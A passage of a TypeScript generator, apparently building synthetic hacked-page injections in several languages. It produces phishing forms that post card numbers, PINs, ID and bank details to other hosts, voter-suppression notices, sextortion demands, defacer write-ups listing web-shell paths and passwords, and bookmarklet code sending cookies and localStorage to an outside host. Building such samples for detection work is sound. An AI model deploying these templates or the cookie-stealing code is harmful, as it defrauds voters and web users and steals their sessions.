  de: [(s, p) => `Bekannt aus „${s}“: Die Investoren waren begeistert von ${p}`, "Fett verbrennen ohne Diät und Sport. Nur noch wenige Packungen zum TV-Sonderpreis.", "Jetzt bestellen"],
  es: [(s, p) => `Visto en ${s}: los inversores no podían creer lo de ${p}`, "Quema grasa sin dieta ni ejercicio. Existencias limitadas al precio especial de TV.", "Pedir ahora"],
  nl: [(s, p) => `Bekend van ${s}: de investeerders waren lyrisch over ${p}`, "Val af zonder dieet of sport. Beperkte voorraad tegen de speciale tv-prijs.", "Nu bestellen"],
  pt: [(s, p) => `Visto no ${s}: os investidores ficaram impressionados com ${p}`, "Queime gordura sem dieta nem exercício. Estoque limitado pelo preço especial da TV.", "Pedir agora"],
  it: [(s, p) => `Visto a ${s}: gli investitori non smettevano di parlare di ${p}`, "Brucia i grassi senza dieta né sport. Scorte limitate al prezzo speciale TV.", "Ordina ora"]
}

// "As seen on Shark Tank" diet-gummy adverts, recalled from memory of the Better Business Bureau's and FTC's warnings (about 2018–2023) and of BBC and Which? reports on fake Dragons' Den and Höhle der Löwen endorsements for keto and CBD gummies sold as hidden subscriptions; the adverts and pages are planted on hacked sites and hosted pages, with a "rush my order" link to an offer page.
const nutraTvEndorsement = fresh9("'as seen on Shark Tank / Dragons' Den' keto or CBD gummies advert with a 'rush my order' link", (page, rng) => {
  const show = tvShows[page.site.locale.country] ?? "Shark Tank"
  const product = `${pick(rng, ["Keto", "ACV Keto", "CBD", "Slim", "Bio Lyfe", "TrimLife"])} ${pick(rng, ["Gummies", "Gummies", "Burn", "Drops", "Patch"])}`
  const [h, p, cta] = say(page, nutraWords)
  const url = `https://${randomDomain(rng)}/${pick(rng, ["go", "offer", "trk", "lp"])}/${slug(product)}?${pick(rng, ["aff_id", "sub1", "cid"])}=${alnum(rng, 8)}`
  const img = chance(rng, 0.6) ? `<img src="https://${randomDomain(rng)}/img/${slug(product)}-${pick(rng, ["bottle", "before-after", "tv"])}.jpg" width="${between(rng, 120, 300)}" alt="${esc(product)}">` : ""
  const block = `<div class="${pick(rng, ["advertorial", "promo", "sponsored-story"])}" style="border:1px solid #ddd;padding:14px;margin:12px 0"><h3>${esc(h(show, product))}</h3>${img}<p>${esc(p)}</p><p><a href="${url}" style="background:#2e7d32;color:#fff;padding:8px 14px">${esc(cta)} »</a></p></div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "top")]), block))
})

// SMM-panel spam, recalled from memory of hacked-site clean-up posts and spam reports (Sucuri and WordPress support forums, about 2020–2024) of links advertising "the cheapest SMM panel" for buying Instagram followers, TikTok views and YouTube subscribers, with prices per thousand and crypto payment.
const smmPanel = fresh9("'cheapest SMM panel: buy followers, likes and views' spam links", (page, rng) => {
  const host = () => pick(rng, [`smm${pick(rng, ["kings", "panelone", "heaven", "fast", "world", "raja", "follows"])}.${pick(rng, ["com", "net", "io", "in", "co"])}`, `${pick(rng, ["buy", "get", "cheap"])}${pick(rng, ["followers", "likes", "views"])}${pick(rng, ["", "24", "now"])}.${pick(rng, ["com", "net", "xyz"])}`, randomDomain(rng)])
  const offers = sample(rng, ["Buy Instagram followers", "TikTok views and likes", "YouTube subscribers and watch hours", "Telegram members", "Spotify plays", "Facebook page likes", "Twitter/X followers"], between(rng, 3, 6))
  const price = `$${pick(rng, ["0.01", "0.05", "0.10", "0.35"])}`
  const head2 = pick(rng, ["Cheapest SMM panel 2025", "#1 SMM panel — instant start", "SMM reseller panel"])
  const list = offers.map((o) => `<a href="https://${host()}/${slug(o)}">${esc(o)}</a>`)
  const block = pick(rng, [
    `<div class="${pick(rng, ["links", "tags", "widget"])}"><strong>${esc(head2)}</strong>: ${list.join(", ")} — ${pick(rng, ["from", "only"])} ${price} / 1000. ${pick(rng, ["Pay with crypto, Payeer, Perfect Money.", "PayPal and USDT accepted.", "API for resellers."])}</div>`,
    `<ul class="${pick(rng, ["footer-links", "blogroll"])}">${list.map((l) => `<li>${l}</li>`).join("")}<li>${esc(head2)}</li></ul>`
  ])
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), bottom(page), anySlot(rng, page.spots)]), block))
})

const electoral: Record<string, string> = {
  us: "County Board of Elections", uk: "The Electoral Commission", au: "Australian Electoral Commission", in: "Election Commission of India", fr: "Ministère de l'Intérieur",
  de: "Die Bundeswahlleiterin", es: "Junta Electoral Central", nl: "Kiesraad", br: "Tribunal Superior Eleitoral", it: "Ministero dell'Interno"
}
const voteWords: Record<Lang, readonly [string, (d: string, code: string) => string, string]> = {
  en: ["Important voting information", (d, c) => `Because of the expected record turnout, voting has been split. Voters whose surname begins with N to Z vote on ${d}. You can also vote by text message: send your candidate's name to ${c}.`, "Check your polling day"],
  fr: ["Information importante sur le vote", (d, c) => `En raison d'une participation record attendue, le scrutin est réparti : les électeurs dont le nom commence par N à Z votent le ${d}. Vous pouvez aussi voter par SMS en envoyant le nom de votre candidat au ${c}.`, "Vérifier votre jour de vote"],
  de: ["Wichtige Information zur Wahl", (d, c) => `Wegen der erwarteten Rekordbeteiligung wird die Stimmabgabe aufgeteilt: Wählerinnen und Wähler mit Nachnamen N bis Z wählen am ${d}. Sie können auch per SMS wählen: Senden Sie den Namen Ihres Kandidaten an ${c}.`, "Ihren Wahltag prüfen"],
  es: ["Información importante sobre la votación", (d, c) => `Debido a la participación récord prevista, la votación se ha dividido: los electores cuyo apellido empieza por N a Z votan el ${d}. También puede votar por SMS enviando el nombre de su candidato al ${c}.`, "Consulte su día de votación"],
  nl: ["Belangrijke informatie over de stemming", (d, c) => `Vanwege de verwachte recordopkomst is het stemmen gespreid: kiezers van wie de achternaam met N tot en met Z begint, stemmen op ${d}. U kunt ook per sms stemmen: stuur de naam van uw kandidaat naar ${c}.`, "Controleer uw stemdag"],
  pt: ["Informação importante sobre a votação", (d, c) => `Devido ao comparecimento recorde esperado, a votação foi dividida: eleitores cujo sobrenome começa com N a Z votam em ${d}. Você também pode votar por SMS enviando o nome do seu candidato para ${c}.`, "Confira o seu dia de votação"],
  it: ["Informazioni importanti sul voto", (d, c) => `A causa dell'affluenza record prevista, il voto è stato suddiviso: gli elettori il cui cognome inizia con le lettere dalla N alla Z votano il ${d}. È possibile votare anche via SMS inviando il nome del proprio candidato al ${c}.`, "Verifica il tuo giorno di voto"]
}

// Voter-suppression disinformation, recalled from memory of the 2016 US "vote by text" adverts (later prosecuted, the Douglass Mackey case, 2023), flyers and robocalls giving one side's voters the wrong polling day (reported in several US and UK elections) and the New Hampshire deepfake robocall (January 2024): a notice in the election authority's name moving part of the electorate to another day and offering voting by text message.
const electionDayNotice = fresh9("fake election notice moving some voters to another polling day and offering 'vote by text'", (page, rng) => {
  const [h, p, cta] = say(page, voteWords)
  const auth = electoral[page.site.locale.country] ?? "Election Commission"
  const code = digits(rng, 5)
  const day = page.site.locale.date(someDate(rng))
  const url = `https://${pick(rng, [`vote-${page.site.locale.country}`, "electioninfo", "polling-day", "voter-check"])}${pick(rng, ["", "-" + digits(rng, 2)])}.${pick(rng, ["info", "org", "com", "online"])}/${pick(rng, ["", "check", "lookup"])}`
  const block = `<div class="${pick(rng, ["notice", "alert", "official-notice"])}" style="border:3px solid ${pick(rng, ["#003078", "#1d70b8", "#b10e1e"])};padding:14px 18px;margin:10px 0"><p><strong>${esc(auth)}</strong></p><h2>${esc(h)}</h2><p>${esc(p(day, code))}</p><p><a href="${url}">${esc(cta)}</a></p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), top(page)]), block))
})

// Defacers' technical write-ups, recalled from memory of Zone-H and Indonesian and Bangladeshi defacement mirrors (2010s–2020s) that list the "Bug" used, the web-shell path and sometimes the admin login, to prove the intrusion and shame the admin; here the line-up under a crew signature.
const defacerWriteup = fresh9("defacer's write-up naming the exploited bug, the web-shell path and the admin password", (page, rng) => {
  const who = chance(rng, 0.5) ? nick(rng) : team(rng)
  const bug = pick(rng, ["SQL Injection (index.php?id=)", "Unrestricted File Upload", "Local File Inclusion", "RCE in an outdated plugin", `CVE-${between(rng, 2019, 2025)}-${between(rng, 1000, 49999)}`, "Default admin credentials", "Exposed .env file"])
  const shell = `/${pick(rng, ["wp-content/uploads/" + between(rng, 2019, 2025) + "/" + String(between(rng, 1, 12)).padStart(2, "0"), "images", "tmp", "assets/upload", "media/cache"])}/${pick(rng, [alnum(rng, 6), "wso", "alfa", "x", "up", "index"])}.${pick(rng, ["php", "phtml", "php7", "PhP"])}`
  const pw = pick(rng, ["admin123", "123456", page.site.brand + "2024", "P@ssw0rd", "qwerty", page.site.brand + "!" + digits(rng, 2)])
  const lines = [
    signature(rng, who).text,
    `Bug: ${bug}`,
    `Shell: ${shell}`,
    `${pick(rng, ["Admin", "Login", "Panel"])}: /${pick(rng, ["admin", "wp-login.php", "administrator", "login.php"])} — ${pick(rng, ["user", "username", "u"])}: ${pick(rng, ["admin", "administrator", page.site.brand])} / ${pick(rng, ["pass", "password", "p"])}: ${pw}`,
    pick(rng, ["Patch your site, admin!", "Just testing my skills.", "Security is an illusion.", "Fix it before someone worse finds it."])
  ]
  const block = pick(rng, [
    `<pre style="background:#000;color:#0f0;padding:12px;margin:10px 0;white-space:pre-wrap">${lines.map(esc).join("\n")}</pre>`,
    `<div class="${pick(rng, ["hacked", "msg", alnum(rng, 5)])}" style="text-align:center;padding:14px;margin:10px 0;background:#111;color:#eee">${lines.map((l) => `<p>${esc(l)}</p>`).join("")}</div>`
  ])
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), bottom(page)]), block))
})

const sextortionWords: Record<Lang, (amount: string, h: number) => string> = {
  en: (a, h) => `We have recorded you through your webcam while you were visiting adult websites, and we have copied your contacts. Pay ${a} in Bitcoin within ${h} hours or the video will be sent to all of them.`,
  fr: (a, h) => `Nous vous avons filmé avec votre webcam pendant que vous visitiez des sites pour adultes et nous avons copié vos contacts. Payez ${a} en Bitcoin sous ${h} heures, sinon la vidéo leur sera envoyée.`,
  de: (a, h) => `Wir haben Sie über Ihre Webcam aufgenommen, während Sie Erwachsenenseiten besucht haben, und Ihre Kontakte kopiert. Zahlen Sie innerhalb von ${h} Stunden ${a} in Bitcoin, sonst geht das Video an alle.`,
  es: (a, h) => `Le hemos grabado con su webcam mientras visitaba sitios para adultos y hemos copiado sus contactos. Pague ${a} en Bitcoin en ${h} horas o el vídeo se enviará a todos ellos.`,
  nl: (a, h) => `We hebben u via uw webcam opgenomen terwijl u sites voor volwassenen bezocht, en uw contacten gekopieerd. Betaal binnen ${h} uur ${a} in Bitcoin, anders gaat de video naar al uw contacten.`,
  pt: (a, h) => `Gravamos você pela webcam enquanto visitava sites adultos e copiamos seus contatos. Pague ${a} em Bitcoin em ${h} horas ou o vídeo será enviado a todos eles.`,
  it: (a, h) => `Ti abbiamo registrato con la webcam mentre visitavi siti per adulti e abbiamo copiato i tuoi contatti. Paga ${a} in Bitcoin entro ${h} ore o il video sarà inviato a tutti.`
}

// Sextortion, recalled from memory of KrebsOnSecurity's "Sextortion Scam Uses Recipient's Hacked Passwords" (July 2018) and the waves of such e-mails since, and of push-spam landing pages reusing the text: a claim that the visitor was filmed through the webcam, a deadline and a Bitcoin address. Here it is shown to every visitor of the hacked page.
const sextortion = fresh9("'we recorded you through your webcam, pay in Bitcoin' sextortion notice to visitors", (page, rng) => {
  const w = makeWallet(rng, "BTC")
  const amount = page.site.locale.money(pick(rng, [950, 1200, 1450, 1650, 2000]))
  const text = siteOr(rng, page, sextortionWords)(amount, pick(rng, [24, 48, 72]))
  const ip = `${between(rng, 11, 223)}.${between(rng, 0, 255)}.${between(rng, 0, 255)}.${between(rng, 1, 254)}`
  const block = `<div style="${pick(rng, [`position:fixed;inset:0;z-index:${zIndex(rng)};background:#fff;padding:12vh 8vw`, "border:2px solid #c00;padding:16px;margin:10px 0"])};font-family:Arial,sans-serif"><h2>${pick(rng, ["⚠ Your device has been hacked", "⚠ WARNING", "⚠ " + ip])}</h2><p>${esc(text)}</p><p>BTC: <code>${w.address}</code></p></div>`
  return splices(insert(pick(rng, [top(page), bottom(page), slotAt(page.spots, "top")]), block))
})

const leagues: Record<Lang, string> = { en: "Premier League", fr: "Ligue 1", de: "Bundesliga", es: "LaLiga", nl: "Eredivisie", pt: "Brasileirão", it: "Serie A" }
const iptvWords: Record<Lang, (l: string, p: string) => string> = {
  en: (l, p) => `IPTV subscription: 20,000+ live channels, ${l}, Champions League, F1, films and series in 4K. 12 months for ${p}, free 24-hour trial. Works on Firestick, Smart TV, MAG and Android boxes.`,
  fr: (l, p) => `Abonnement IPTV : plus de 20 000 chaînes, ${l}, Ligue des champions, F1, films et séries en 4K. 12 mois pour ${p}, essai gratuit 24 h. Compatible Firestick, Smart TV, MAG, box Android.`,
  de: (l, p) => `IPTV-Abo: über 20.000 Sender, ${l}, Champions League, F1, Filme und Serien in 4K. 12 Monate für ${p}, 24 Stunden gratis testen. Für Firestick, Smart-TV, MAG und Android-Boxen.`,
  es: (l, p) => `Suscripción IPTV: más de 20.000 canales, ${l}, Champions League, F1, películas y series en 4K. 12 meses por ${p}, prueba gratis de 24 horas. Firestick, Smart TV, MAG y Android.`,
  nl: (l, p) => `IPTV-abonnement: meer dan 20.000 zenders, ${l}, Champions League, F1, films en series in 4K. 12 maanden voor ${p}, 24 uur gratis proberen. Voor Firestick, smart-tv, MAG en Android-boxen.`,
  pt: (l, p) => `Assinatura IPTV: mais de 20.000 canais, ${l}, Champions League, F1, filmes e séries em 4K. 12 meses por ${p}, teste grátis de 24 horas. Firestick, Smart TV, MAG e TV Box.`,
  it: (l, p) => `Abbonamento IPTV: oltre 20.000 canali, ${l}, Champions League, F1, film e serie in 4K. 12 mesi a ${p}, prova gratuita di 24 ore. Per Firestick, Smart TV, MAG e box Android.`
}

// Pirate IPTV resellers, recalled from memory of the Alliance for Creativity and Entertainment's, the Premier League's and BREIN's actions against illegal IPTV sellers (about 2019–2024) and of hacked-site spam advertising them: thousands of channels and the national football league for a small yearly price, sold over WhatsApp or a shop on another host.
const iptvResale = fresh9("pirate IPTV subscription advert (20,000 channels and the national league, order on WhatsApp)", (page, rng) => {
  const league = say(page, leagues)
  const text = siteOr(rng, page, iptvWords)(league, page.site.locale.money(pick(rng, [39, 49, 59, 69])))
  const wa = `https://wa.me/${pick(rng, ["44", "33", "34", "31", "49", "1", "212", "216"])}${digits(rng, 9)}`
  const shop = `https://${pick(rng, [`iptv${pick(rng, ["smarters", "premium", "king", "4k", "best"])}${pick(rng, ["", "pro", "uk", "eu"])}.${pick(rng, ["com", "net", "shop", "store", "tv"])}`, randomDomain(rng)])}/${pick(rng, ["", "pricing", "free-trial"])}`
  const block = `<div class="${pick(rng, ["promo", "ad", "post"])}" style="background:#0d1b2a;color:#fff;padding:14px;margin:12px 0"><h3>📺 ${pick(rng, ["IPTV 4K Premium", "Best IPTV 2025", "IPTV Smarters Pro"])}</h3><p>${esc(text)}</p><p><a href="${shop}" style="color:#ffd166">${pick(rng, ["Free trial", "Order", "Buy now"])}</a> · <a href="${wa}" style="color:#06d6a0">WhatsApp</a></p></div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "bottom")]), block))
})

const giftWords: Record<Lang, readonly [string, string, string, string]> = {
  en: ["Check your gift card balance", "Card number", "PIN (scratch off the back)", "Check balance"],
  fr: ["Consultez le solde de votre carte cadeau", "Numéro de carte", "Code PIN (à gratter au dos)", "Voir le solde"],
  de: ["Guthaben Ihrer Geschenkkarte prüfen", "Kartennummer", "PIN (auf der Rückseite freirubbeln)", "Guthaben abfragen"],
  es: ["Consulte el saldo de su tarjeta regalo", "Número de tarjeta", "PIN (rasque el reverso)", "Consultar saldo"],
  nl: ["Saldo van uw cadeaukaart opvragen", "Kaartnummer", "Pincode (achterkant openkrassen)", "Saldo bekijken"],
  pt: ["Consulte o saldo do seu cartão-presente", "Número do cartão", "PIN (raspe o verso)", "Consultar saldo"],
  it: ["Controlla il saldo della tua gift card", "Numero della carta", "PIN (gratta il retro)", "Verifica saldo"]
}

// Gift-card balance-check phishing, recalled from memory of Which?, BBC and Better Business Bureau warnings (about 2019–2023) about fake "check your gift card balance" pages that capture the card number and PIN and drain the card within minutes: here a balance checker added to the site, posting to another host.
const giftCardBalance = fresh9("'check your gift card balance' form sending card number and PIN to another host", (page, rng) => {
  const [h, num, pin, cta] = say(page, giftWords)
  const card = pick(rng, [`${brandName(page)}`, "Amazon", "Apple", "Steam", "Google Play", "Visa"])
  const action = `https://${pick(rng, [`${slug(card)}-${pick(rng, ["giftcard", "balance", "cards"])}.${pick(rng, ["com", "net", "shop", "info"])}`, randomDomain(rng), brandLookalike(rng, page.site.brand)])}/${pick(rng, ["balance", "check.php", "api/gc", "giftcard/verify"])}`
  const form = `<form class="${pick(rng, ["gift-card-balance", "gc-check", "balance-form"])}" action="${action}" method="${pick(rng, ["post", "post", "get"])}" style="border:1px solid #ccc;padding:14px;margin:12px 0;max-width:420px"><h3>🎁 ${esc(card)}: ${esc(h)}</h3><p><label>${esc(num)} <input name="${pick(rng, ["card", "cardnumber", "gc"])}" inputmode="numeric" maxlength="19"></label></p><p><label>${esc(pin)} <input name="${pick(rng, ["pin", "code", "scratch"])}" inputmode="numeric" maxlength="8"></label></p><button type="submit">${esc(cta)}</button></form>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "top")]), form))
})

const settlementWords: Record<Lang, readonly [string, (c: string, a: string, d: string) => string, readonly [string, string, string], string]> = {
  en: ["Class action settlement", (c, a, d) => `If your data was exposed in the ${c} data breach, you may be entitled to up to ${a}. Submit your claim before ${d}.`, ["Full name", "Social Security number", "Bank account for payment"], "Submit claim"],
  fr: ["Action de groupe : indemnisation", (c, a, d) => `Si vos données ont été exposées lors de la fuite de données de ${c}, vous pouvez prétendre à jusqu'à ${a}. Déposez votre demande avant le ${d}.`, ["Nom complet", "Numéro de sécurité sociale", "IBAN pour le versement"], "Déposer ma demande"],
  de: ["Sammelklage: Entschädigung", (c, a, d) => `Wenn Ihre Daten beim Datenleck von ${c} betroffen waren, stehen Ihnen bis zu ${a} zu. Reichen Sie Ihren Anspruch bis zum ${d} ein.`, ["Vollständiger Name", "Steuer-ID", "IBAN für die Auszahlung"], "Anspruch einreichen"],
  es: ["Demanda colectiva: indemnización", (c, a, d) => `Si sus datos quedaron expuestos en la filtración de ${c}, puede recibir hasta ${a}. Presente su reclamación antes del ${d}.`, ["Nombre completo", "DNI/NIE", "IBAN para el pago"], "Enviar reclamación"],
  nl: ["Massaclaim: schadevergoeding", (c, a, d) => `Als uw gegevens zijn gelekt bij het datalek van ${c}, heeft u mogelijk recht op maximaal ${a}. Dien uw claim in vóór ${d}.`, ["Volledige naam", "BSN", "IBAN voor uitbetaling"], "Claim indienen"],
  pt: ["Ação coletiva: indenização", (c, a, d) => `Se seus dados foram expostos no vazamento da ${c}, você pode ter direito a até ${a}. Envie seu pedido até ${d}.`, ["Nome completo", "CPF", "Conta bancária ou chave PIX"], "Enviar pedido"],
  it: ["Class action: risarcimento", (c, a, d) => `Se i tuoi dati sono stati esposti nella violazione di ${c}, potresti avere diritto fino a ${a}. Presenta la richiesta entro il ${d}.`, ["Nome e cognome", "Codice fiscale", "IBAN per l'accredito"], "Invia richiesta"]
}

// Fake class-action settlement claims, recalled from memory of the FTC's consumer alerts (about 2019–2024) on settlement-claim scams and fake claim sites after large data-breach settlements (Equifax 2019, T-Mobile 2022), which ask for national ID numbers and bank details "for the payment": here a claim form on a hacked page, naming a real-sounding breach.
const classActionClaim = fresh9("fake data-breach class-action claim form asking for a national ID number and bank details", (page, rng) => {
  const [h, p, [name, id, bank], cta] = say(page, settlementWords)
  const company = pick(rng, [brandName(page), "TelcoNet", "Equinox Health", "MediCare Plus", "Global Bank", "ShopNow"])
  const action = `https://${pick(rng, [`${slug(company).replace(/-/g, "")}${pick(rng, ["settlement", "claim", "classaction"])}.${pick(rng, ["com", "org", "info"])}`, randomDomain(rng)])}/${pick(rng, ["claim", "submit", "form.php"])}`
  const amount = page.site.locale.money(pick(rng, [350, 500, 1250, 5000]))
  const form = `<section class="${pick(rng, ["settlement", "claim", "legal-notice"])}" style="border:2px solid #333;padding:14px 18px;margin:12px 0"><h3>⚖ ${esc(h)}</h3><p>${esc(p(company, amount, page.site.locale.date(someDate(rng))))}</p><form action="${action}" method="post"><p><label>${esc(name)} <input name="name"></label></p><p><label>${esc(id)} <input name="${pick(rng, ["ssn", "national_id", "id"])}"></label></p><p><label>${esc(bank)} <input name="${pick(rng, ["iban", "account", "bank"])}"></label></p><button type="submit">${esc(cta)}</button></form></section>`
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), form))
})

// Content hidden from scanners in a declarative shadow root, recalled from memory of web.dev's article on Declarative Shadow DOM (shipped in Chrome in 2023, other browsers in 2024) and, with uncertain attribution, of security researchers noting phishing and defacement content placed in shadow roots so that tools reading the document's light DOM do not see it: the defacer's message sits in a <template shadowrootmode>, which browsers render in place.
const shadowRootMessage = fresh9("defacer's message placed inside a declarative shadow root (template shadowrootmode)", (page, rng) => {
  const who = chance(rng, 0.5) ? nick(rng) : team(rng)
  const msg = pick(rng, [() => signature(rng, who).text, () => boast(rng).text, () => political(rng).text])()
  const host = pick(rng, ["div", "section", "x-notice", "site-banner", "span"])
  const overlay = chance(rng, 0.5)
  const css = overlay
    ? `:host{all:initial}div{position:fixed;inset:0;z-index:${zIndex(rng)};background:${pick(rng, ["#000", "#111", "#200"])};color:${pick(rng, ["#0f0", "#f33", "#fff"])};font:bold 32px monospace;text-align:center;padding-top:30vh}`
    : `div{background:${pick(rng, ["#000", "#b00", "#222"])};color:#fff;padding:16px;font:bold 22px sans-serif;text-align:center}`
  const inner = `<template shadowrootmode="${pick(rng, ["open", "closed"])}"><style>${css}</style><div>${esc(msg)}<br><small>${esc(who)}</small></div></template>`
  return splices(insert(pick(rng, [top(page), bottom(page), slotAt(page.spots, "top")]), `<${host}>${inner}</${host}>`))
})

const ageWords: Record<Lang, readonly [string, string, string, string]> = {
  en: ["Age verification required", "By law, you must confirm that you are 18 or over. Verify with a credit or debit card — you will not be charged.", "Card number", "Verify my age"],
  fr: ["Vérification de l'âge obligatoire", "La loi vous impose de confirmer que vous avez 18 ans ou plus. Vérifiez avec une carte bancaire — aucun débit ne sera effectué.", "Numéro de carte", "Vérifier mon âge"],
  de: ["Altersverifikation erforderlich", "Gesetzlich müssen Sie bestätigen, dass Sie mindestens 18 Jahre alt sind. Verifizieren Sie sich mit Ihrer Kreditkarte – es wird nichts abgebucht.", "Kartennummer", "Alter bestätigen"],
  es: ["Verificación de edad obligatoria", "Por ley debe confirmar que es mayor de 18 años. Verifique con una tarjeta de crédito o débito: no se realizará ningún cargo.", "Número de tarjeta", "Verificar mi edad"],
  nl: ["Leeftijdsverificatie verplicht", "Volgens de wet moet u bevestigen dat u 18 jaar of ouder bent. Verifieer met een creditcard of betaalpas — er wordt niets afgeschreven.", "Kaartnummer", "Leeftijd bevestigen"],
  pt: ["Verificação de idade obrigatória", "Por lei, você precisa confirmar que tem 18 anos ou mais. Verifique com um cartão de crédito ou débito — nada será cobrado.", "Número do cartão", "Verificar minha idade"],
  it: ["Verifica dell'età obbligatoria", "Per legge devi confermare di avere almeno 18 anni. Verifica con una carta di credito o di debito: non sarà addebitato nulla.", "Numero della carta", "Verifica la mia età"]
}

// Card-harvesting age checks, recalled from memory of FTC cases against adult sites' "free age verification" card sign-ups that became subscriptions (2000s–2010s) and, with uncertain details, of warnings after the UK Online Safety Act's age checks began (July 2025) that scammers would copy them: a gate over the page asking for card details "to verify your age", posting to another host.
const ageGateCard = fresh9("age-verification gate over the page asking for card details 'you will not be charged'", (page, rng) => {
  const [h, p, num, cta] = say(page, ageWords)
  const action = `https://${pick(rng, [randomDomain(rng), `age${pick(rng, ["verify", "check", "pass"])}${pick(rng, ["", "-secure", "now"])}.${pick(rng, ["com", "net", "online"])}`])}/${pick(rng, ["verify", "v.php", "api/age"])}`
  const gate = `<div class="${pick(rng, ["age-gate", "av-overlay", "agecheck"])}" style="position:fixed;inset:0;z-index:${zIndex(rng)};background:rgba(0,0,0,.85)"><form action="${action}" method="post" style="max-width:420px;margin:15vh auto;background:#fff;padding:22px;border-radius:8px"><h2>🔞 ${esc(h)}</h2><p>${esc(p)}</p><p><label>${esc(num)} <input name="${pick(rng, ["cc", "cardnumber", "pan"])}" autocomplete="cc-number" inputmode="numeric"></label></p><p><input name="exp" placeholder="MM/YY" size="6"> <input name="cvc" placeholder="CVC" size="4"></p><button type="submit">${esc(cta)}</button></form></div>`
  return splices(insert(pick(rng, [top(page), bottom(page)]), gate))
})

/** An ISSN with its mod-11 check digit. */
const issn = (rng: Rng): string => {
  const d = digits(rng, 7)
  const sum = [...d].reduce((s, c, i) => s + Number(c) * (8 - i), 0)
  const check = (11 - (sum % 11)) % 11
  return `${d.slice(0, 4)}-${d.slice(4)}${check === 10 ? "X" : String(check)}`
}

// Hijacked and predatory journals, recalled from memory of Retraction Watch's Hijacked Journal Checker (from about 2022) and Anna Abalkina's research on cloned journal sites, and of calls for papers spammed onto university pages: "Scopus and Web of Science indexed", publication in days for a fee, submissions to a free-mail address or a cloned journal site.
const hijackedJournal = fresh9("'Scopus-indexed, publication in 7 days' call for papers from a hijacked journal", (page, rng) => {
  const journal = `${pick(rng, ["International Journal of", "Journal of", "Global Journal of", "European Journal of"])} ${pick(rng, ["Advanced Engineering and Management Research", "Contemporary Social Sciences and Humanities", "Applied Health and Medical Studies", "Multidisciplinary Innovation", "Business, Economics and Law"])}`
  const acronym = journal.split(/\s+/).filter((w) => /^[A-Z]/.test(w)).map((w) => w[0]).join("")
  const site = `https://${pick(rng, [`www.${acronym.toLowerCase()}${pick(rng, ["journal", "-online", "pub"])}.${pick(rng, ["org", "com", "net"])}`, randomDomain(rng)])}/index.php/${acronym.toLowerCase()}/about/submissions`
  const mail = `${acronym.toLowerCase()}.${pick(rng, ["editor", "submission", "chief"])}@${freeMail(rng)}`
  const apc = `$${pick(rng, [99, 150, 199, 250, 350])}`
  const lines = [
    `${journal} (ISSN ${issn(rng)}) — ${pick(rng, ["Scopus Q2 & Web of Science indexed", "indexed in Scopus, WoS, DOAJ", "Scopus Q1/Q2, impact factor 5.8"])}`,
    `${pick(rng, ["Call for papers", "Special issue — call for papers", "Urgent publication"])}: ${pick(rng, ["publication within 7 days", "acceptance in 48 hours", "guaranteed acceptance"])}, APC ${apc}.`,
    `${pick(rng, ["Submit your manuscript", "Send your paper"])} ${pick(rng, ["to", "by e-mail to"])} ${mail}`
  ]
  const block = `<div class="${pick(rng, ["announcement", "cfp", "news-item"])}" style="border-left:4px solid #8b0000;padding:10px 14px;margin:12px 0">${lines.map((l) => `<p>${esc(l)}</p>`).join("")}<p><a href="${site}">${esc(site.replace(/^https:\/\//, "").split("/")[0]!)}</a></p></div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "top")]), block))
})

const bookmarkletWords: Record<Lang, readonly [(s: string) => string, string]> = {
  en: [(s) => `Drag this button to your bookmarks bar, then open ${s} and click it.`, "See who viewed your profile"],
  fr: [(s) => `Faites glisser ce bouton dans votre barre de favoris, puis ouvrez ${s} et cliquez dessus.`, "Voir qui a consulté votre profil"],
  de: [(s) => `Ziehen Sie diese Schaltfläche in Ihre Lesezeichenleiste, öffnen Sie dann ${s} und klicken Sie darauf.`, "Sehen, wer Ihr Profil besucht hat"],
  es: [(s) => `Arrastre este botón a su barra de marcadores, abra ${s} y haga clic en él.`, "Ver quién visitó tu perfil"],
  nl: [(s) => `Sleep deze knop naar uw bladwijzerbalk, open daarna ${s} en klik erop.`, "Zie wie je profiel heeft bekeken"],
  pt: [(s) => `Arraste este botão para a barra de favoritos, abra o ${s} e clique nele.`, "Veja quem visitou seu perfil"],
  it: [(s) => `Trascina questo pulsante nella barra dei preferiti, poi apri ${s} e cliccaci sopra.`, "Scopri chi ha visto il tuo profilo"]
}

// Self-XSS through bookmarklets and the console, recalled from memory of Facebook's console warnings against "paste this code" scams (2014) and of Discord token-stealing "bookmarklet" lures (reported on Reddit and in security blogs, about 2021–2022): the visitor is told to drag a javascript: link to the bookmarks bar and click it while on another site, where it reads that site's session token or cookies and sends them away.
const bookmarkletSelfXss = fresh9("'drag this button to your bookmarks bar' javascript: bookmarklet that steals a session on another site", (page, rng) => {
  const [how, perk] = siteOr(rng, page, bookmarkletWords)
  const [service, extra] = pick(rng, [["Discord", "Nitro unlocker"], ["Instagram", "verified badge"], ["Facebook", "dark mode+"], ["Roblox", "free Robux"], ["Steam", "free games unlocker"], ["TikTok", "follower booster"]] as const)
  const lure = pick(rng, [perk, `${service} ${extra}`, `${service} ${pick(rng, ["account checker", "dark mode+"])}`])
  const sink = `https://${pick(rng, [randomDomain(rng), `${alnum(rng, 8)}.${pick(rng, ["workers.dev", "glitch.me", "repl.co", "herokuapp.com"])}`])}/${pick(rng, ["c", "t", "log"])}`
  const code = pick(rng, [
    `(function(){var t=(window.localStorage&&localStorage.getItem('token'))||document.cookie;new Image().src='${sink}?s='+location.host+'&t='+encodeURIComponent(t)})()`,
    `(function(){fetch('${sink}',{method:'POST',mode:'no-cors',body:JSON.stringify({h:location.host,c:document.cookie,l:JSON.stringify(localStorage)})});alert('Done!')})()`,
    `(function(){var s=document.createElement('script');s.src='${sink}.js?'+Date.now();document.body.appendChild(s)})()`
  ])
